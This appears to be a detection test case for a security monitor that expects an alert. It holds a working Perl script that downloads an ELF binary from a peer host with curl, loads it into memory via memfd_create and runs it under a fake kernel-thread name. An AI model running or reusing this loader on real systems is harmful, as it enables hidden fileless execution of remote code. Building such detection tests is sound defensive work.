# id: B06b
# title: perl takes a download into memory and runs it from there under a kernel thread's name
# expect: alert
# severity: critical
# kinds: process
# attck: T1620
# image: tools
# launch: app
# peers: http:8000

# x86-64: 319 is memfd_create. Where the peer serves no program, id takes its place.
perl -e '
my $name = "kworker";
my $fd = syscall(319, $name, 1);
open(my $memory, ">&=", $fd) or die $!;
local $/;
open(my $download, "-|", "curl", "-s", "-m", "3", "http://http:8000/p.elf") or die $!;
my $bytes = <$download>;
if (substr($bytes, 0, 4) ne "\x7fELF") {
    open(my $program, "<:raw", "/usr/bin/id") or die $!;
    $bytes = <$program>;
}
syswrite($memory, $bytes) == length $bytes or die $!;
exec { "/proc/$$/fd/$fd" } "[kworker/0:0]";' >/dev/null
exit 0
